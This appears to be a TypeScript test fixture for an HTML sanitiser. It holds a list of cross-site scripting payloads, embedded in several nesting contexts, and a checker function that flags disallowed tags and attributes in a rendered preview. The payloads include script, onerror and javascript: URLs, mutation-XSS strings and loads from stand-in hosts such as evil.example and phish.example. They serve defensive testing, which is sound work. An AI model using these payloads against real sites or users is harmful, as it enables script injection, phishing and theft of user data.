/** Forms of markup that act, call out, or pose as the page, to be put into many places. */
const sources: readonly string[] = [
  `<script>alert(1)</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://tracker.example/p.gif">`,
  `<image src=x onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="java&#10;script:alert(1)">x</a>`,
  `<a href=" &#14; javascript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="https://bank.example@evil.example">x</a>`,
  `<a href="https://ok.example" onclick=alert(1) style="position:fixed;inset:0" id=root name=body class=main>x</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="https://phish.example"><input name=key autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">go</button></form>`,
  `<style>@import "https://evil.example/x.css"; body{display:none}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<video src=x onerror=alert(1)><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1) autoplay></audio>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<select><style></select><img src=x onerror=alert(1)></style></select>`,
  `<p onmouseover=alert(1) style="background:url(https://evil.example)">x</p>`,
  `<div id=content name=getElementById class=main>x</div>`,
  `<input type=image src=x onerror=alert(1)>`,
  `<x-y onfocus=alert(1) tabindex=1>x</x-y>`,
  `<dialog open onclose=alert(1)>x</dialog>`,
  // Reported by the parser, although nothing of it would run.
  `<p onclick>x</p>`,
  `<p style>x</p>`,
  `<svg/onload>`,
  `<p x='y'ONCLICK/>x</p>`,
  `<table onclick style><tr><td>x`,
  `<script>x onclick=1</script>`,
  `<p>a</p><script>not closed, style=1`,
  `<svg><script>a style=1</p>`,
  `<sty<style></style>le>p{}</style>`,
  `<b<base>ase href=//evil.example>`,
];

const places: readonly ((source: string) => string)[] = [
  (source) => source,
  (source) => `<p>Before</p>${source}<p>After</p>`,
  (source) => `<ul><li><b>${source}</b></li></ul>`,
  // Not closed, and inside what a parser moves about.
  (source) => `<table><tr><td><a href="https://ok.example"><i>${source}`,
  (source) => `<svg><foreignObject><math><annotation-xml encoding="text/html">${source}`,
];

/** Descriptions that must stay harmless. */
export const hostileHtml: readonly string[] = places.flatMap((place) => sources.map(place));

/**
 * Lists every tag, attribute and URL below an element that the preview must not contain. It uses
 * nothing from outside, so that a browser test can run it in its page. The allowed tags are repeated
 * here on purpose: one that is added to the sanitiser has to be added to its test, too.
 */
export function liveSinks(root: Element, mayHaveTables = false): string[] {
  const text =
    "a b blockquote br code del em h1 h2 h3 h4 h5 h6 hr i li ol p pre s strong sub sup u ul";
  const tables = "table tbody td tfoot th thead tr";
  const allowed = new Set(`${text} ${mayHaveTables ? tables : ""}`.split(" "));
  return [...root.querySelectorAll("*")].flatMap((element) => {
    const tag = element.localName;
    if (!allowed.has(tag)) return [`<${tag}>`];
    return [...element.attributes].flatMap(({ name, value }) => {
      const fits =
        tag === "a" &&
        ((name === "href" && /^(https?:\/\/(?![^/]*@)|mailto:)/i.test(value)) ||
          (name === "target" && value === "_blank") ||
          (name === "rel" && /noopener noreferrer/.test(value)));
      return fits ? [] : [`${tag} ${name}=${value}`];
    });
  });
}
